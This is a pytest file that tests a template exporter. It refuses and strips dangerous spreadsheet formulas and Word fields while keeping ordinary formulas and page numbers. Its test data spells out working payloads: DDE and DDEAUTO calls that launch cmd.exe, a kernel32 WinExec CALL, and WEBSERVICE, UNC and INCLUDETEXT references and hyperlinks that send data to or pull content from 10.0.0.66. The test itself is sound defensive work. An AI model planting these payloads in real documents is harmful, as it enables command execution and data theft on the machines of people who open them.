"""A layout's formulas, fields and hyperlinks stay inside the exported file:
DDE, other workbooks, UNC paths, WEBSERVICE and outside links are refused by
validate-template and stripped from an export with a notice; ordinary
formulas (SUM, ROUND, IF over the same workbook) and page numbers are kept."""

from __future__ import annotations

import io
import zipfile

import pytest

from core.registry import load_template
from exporters.layout_links import formula_problem

SHEETS = {"自评表", "Sheet 2"}
HOSTILE_FORMULAS = [
    "=cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "='\\\\10.0.0.66\\share\\[a.xlsx]S'!A1", "=[1]Sheet1!A1", "='C:\\x\\[b.xlsx]S'!A1",
    '=WEBSERVICE("http://10.0.0.66/?"&A1)', '=FILTERXML(WEBSERVICE("http://x"),"//a")', '=HYPERLINK("http://10.0.0.66/x","点此")',
    '=HYPERLINK("\\\\10.0.0.66\\s\\x")', "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=RTD(\"x\",,\"y\")",
    "=SUM(别的表!A1:A3)", "=INDIRECT(\"A1\")",
]
KEPT_FORMULAS = ["=SUM(A1:A3)", "=ROUND(B2*100,2)", "=IF(C3>0,C3,0)", "='Sheet 2'!A1+自评表!$B$2", "=SUM(A:A)",
                 '=HYPERLINK("#自评表!A1","回到表头")', "=MAX(1:3)"]


@pytest.mark.parametrize("formula", HOSTILE_FORMULAS)
def test_hostile_formulas_are_refused(formula):
    assert formula_problem(formula, SHEETS, set())


@pytest.mark.parametrize("formula", KEPT_FORMULAS)
def test_ordinary_formulas_are_kept(formula):
    assert formula_problem(formula, SHEETS, set()) is None


def _plant_xlsx(path, formulas: dict[str, str], link: str | None = None):
    from openpyxl import load_workbook
    wb = load_workbook(path)
    ws = wb.worksheets[0]
    for ref, formula in formulas.items():
        ws[ref] = formula
    if link:
        ws["A1"].hyperlink = link
    out = io.BytesIO()
    wb.save(out)
    path.write_bytes(out.getvalue())


def test_excel_layout_with_dde_unc_and_webservice_is_refused_and_stripped(template_copy, sample_draft):
    from exporters.api import export_bytes
    from exporters.lint import lint_layouts

    evil = {"Z1": "=cmd|' /C calc'!A0", "Z2": "='\\\\10.0.0.66\\share\\[a.xlsx]S'!A1",
            "Z3": '=WEBSERVICE("http://10.0.0.66/")', "Z4": "=SUM(Z5:Z6)"}
    _plant_xlsx(template_copy / "table.xlsx", evil, link="http://10.0.0.66/leak")
    t = load_template(template_copy)
    problems = [p for p in lint_layouts(t) if p.startswith("table.xlsx")]
    assert len(problems) == 4 and all("Z4" not in p for p in problems), problems
    assert all("删除" in p for p in problems)
    notices: list[str] = []
    data = export_bytes("xlsx", t, sample_draft, notices=notices)
    assert len(notices) == 4 and all("已从导出的文件中删除" in n for n in notices), notices
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        text = b"".join(z.read(n) for n in z.namelist())
    for leak in (b"10.0.0.66", b"cmd|", b"WEBSERVICE"):
        assert leak not in text
    assert b"SUM(Z5:Z6)" in text   # an ordinary formula stays


def _plant_docx(path, body_xml: str, rel: str = ""):
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            body = src.read(name)
            if name == "word/document.xml":
                body = body.replace(b"<w:body>", b"<w:body>" + body_xml.encode(), 1)
            if name == "word/_rels/document.xml.rels" and rel:
                body = body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
            dst.writestr(name, body)
    path.write_bytes(out.getvalue())


DDE_SIMPLE = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>'
INCLUDE_COMPLEX = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT </w:instrText></w:r>'
                   '<w:r><w:instrText>"\\\\\\\\10.0.0.66\\\\s\\\\x.docx"</w:instrText></w:r>'
                   '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>乙</w:t></w:r>'
                   '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
PAGE_FIELD = '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
OUT_LINK = '<w:p><w:hyperlink r:id="rIdOut"><w:r><w:t>丙</w:t></w:r></w:hyperlink></w:p>'
OUT_REL = ('<Relationship Id="rIdOut" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           'hyperlink" Target="http://10.0.0.66/track" TargetMode="External"/>')


def test_word_layout_fields_and_outside_links_are_refused_and_stripped(template_copy, sample_draft):
    from exporters.api import export_bytes
    from exporters.lint import lint_layouts

    _plant_docx(template_copy / "report.docx", DDE_SIMPLE + INCLUDE_COMPLEX + PAGE_FIELD + OUT_LINK, OUT_REL)
    t = load_template(template_copy)
    problems = [p for p in lint_layouts(t) if p.startswith("report.docx")]
    assert any("DDEAUTO" in p for p in problems) and any("INCLUDETEXT" in p for p in problems), problems
    assert any("超链接" in p for p in problems) and not any("PAGE " in p for p in problems)
    notices: list[str] = []
    data = export_bytes("docx", t, sample_draft, notices=notices)
    assert len(notices) == 3, notices
    document = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode("utf-8")
    assert "DDEAUTO" not in document and "INCLUDETEXT" not in document and "rIdOut" not in document
    assert "10.0.0.66" not in document
    assert all(text in document for text in ("甲", "乙", "丙"))   # the text shown stays
    assert 'w:instr=" PAGE "' in document                          # page numbers stay


def test_shipped_layouts_have_nothing_to_strip():
    from pathlib import Path

    from exporters.layout_links import docx_problems, xlsx_problems
    from openpyxl import load_workbook
    for folder in sorted((Path(__file__).resolve().parents[2] / "templates").iterdir()):
        if (folder / "form.yaml").is_file():
            assert docx_problems((folder / "report.docx").read_bytes()) == []
            assert xlsx_problems(load_workbook(folder / "table.xlsx")) == []
